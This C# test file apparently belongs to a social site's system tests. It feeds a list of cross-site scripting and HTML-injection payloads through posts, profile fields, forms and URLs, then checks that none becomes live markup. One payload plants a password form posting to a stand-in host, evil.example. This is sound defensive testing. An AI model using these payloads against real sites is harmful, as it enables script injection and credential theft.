using System.Net;
using Rookery.TestKit;
using Xunit;

namespace Rookery.SystemTests.Site;

/// <summary>
/// Whatever people write, in whatever field, it is text on every page that shows it: <see cref="PageRules"/> looks at each page for elements, attributes and
/// addresses that are not the site's.
/// </summary>
public sealed class HostileTextTests
{
    /// <summary>What breaks out of text, of attributes with either quote, of addresses, of comments, titles, styles and scripts.</summary>
    internal static readonly string[] Texts =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "' autofocus onfocus=alert(1) x='",
        "\" onmouseover=\"alert(1)",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "<!--",
        "<![CDATA[<iframe>]]>",
        "javascript:alert(1)",
        "https://example.org/\"onmouseover=\"alert(1)",
        "https://example.org/'><script>alert(1)</script>",
        "http://example.org/<b>",
        "@ana\"><b>",
        "#tag\"><b>",
        "#<script>",
        "&lt;script&gt;&#60;b&#62;",
        "<a href=javascript:alert(1)>x</a>",
        "<form action=//evil.example><input name=password>",
        "<style>*{color:red}</style>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "{{constructor.constructor('alert(1)')()}}",
        "\u202E\u2066<b>\u2069",
        "＜script＞alert(1)＜/script＞",
        "<scr\u0001ipt>alert(1)</scr\u0001ipt>",
    ];

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Nothing_that_a_person_writes_becomes_an_element_of_a_page()
    {
        await using var world = await World.EmptyAsync(Stop);
        using var ana = new Browser(world.Server.Http.BaseAddress!, Stop);
        await ana.SignUpAsync("ana");
        foreach (var text in Texts)
        {
            await ana.PostAsync(text);
            // All of it is there to be read, but what nobody can see.
            Assert.Equal(text.Replace("\u0001", "", StringComparison.Ordinal), ana.Posts()[0]);
            await ana.OpenAsync("/settings");
            await ana.SendAsync(
                "form[action$=profile]",
                ("name", text.Length > 50 ? text[..50] : text),
                ("bio", text)
            );
            Assert.True(ana.Status is HttpStatusCode.OK or HttpStatusCode.BadRequest);
            var isName = ana.Status == HttpStatusCode.OK;
            await LookAroundAsync(
                ana,
                isName ? ana.Find("#profile-name").GetAttribute("value") : null
            );
            await EchoAsync(ana, text);
        }

        using var stranger = new Browser(ana.Address, Stop);
        foreach (var path in (string[])["/", "/public", "/@ana", "/@ana/followers"])
        {
            await stranger.OpenAsync(path);
            Assert.Equal(HttpStatusCode.OK, stranger.Status);
        }

        foreach (var text in Texts)
        {
            await EchoAsync(stranger, text);
            await stranger.OpenAsync("/login");
            await stranger.SendAsync("main form", ("username", text), ("password", text));
            await stranger.OpenAsync("/signup");
            await stranger.SendAsync(
                "main form",
                ("username", text),
                ("email", text),
                ("password", text)
            );
            Assert.Equal(HttpStatusCode.BadRequest, stranger.Status);
        }
    }

    /// <summary>Every page that shows the name, the texts, or both.</summary>
    private static async Task LookAroundAsync(Browser ana, string? name)
    {
        await ana.OpenAsync("/@ana");
        Assert.Equal(name ?? ana.Find("h1").TextContent, ana.Find("h1").TextContent);
        foreach (var path in (string[])["/home", "/@ana/followers", "/@ana/replies"])
        {
            await ana.OpenAsync(path);
            Assert.Equal(HttpStatusCode.OK, ana.Status);
        }

        await ana.OpenAsync("/home");
        await ana.FollowAsync("article .when");
        Assert.Equal(HttpStatusCode.OK, ana.Status);
        await ana.FollowAsync("article .delete");
        Assert.Equal(HttpStatusCode.OK, ana.Status);
    }

    /// <summary>Pages that show what was asked for.</summary>
    private static async Task EchoAsync(Browser browser, string text)
    {
        var sent = Uri.EscapeDataString(text);
        string[] paths =
        [
            $"/search?q={sent}",
            $"/search?q={sent}&literal={sent}",
            $"/tags/{sent}",
            $"/@{sent}",
            $"/public?max_id={sent}",
            $"/login?return={sent}",
            $"/settings?done={sent}",
            $"/{sent}",
        ];
        foreach (var path in paths)
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, path);
            request.Headers.Add("Accept", "text/html");
            using var answer = await browser.RawAsync(request);
            Assert.True((int)answer.StatusCode < 500, $"{path} answered {answer.StatusCode}");
            if (answer.Content.Headers.ContentType is { MediaType: "text/html" })
            {
                PageRules.AssertMarkup(await answer.Content.ReadAsStringAsync(Stop), path);
            }
            else
            {
                // What is no path at all has no page, and a redirect has none either.
                Assert.True(
                    answer.StatusCode
                        is HttpStatusCode.SeeOther
                            or HttpStatusCode.BadRequest
                            or HttpStatusCode.NotFound,
                    $"{path} answered {answer.StatusCode}"
                );
            }
        }
    }
}
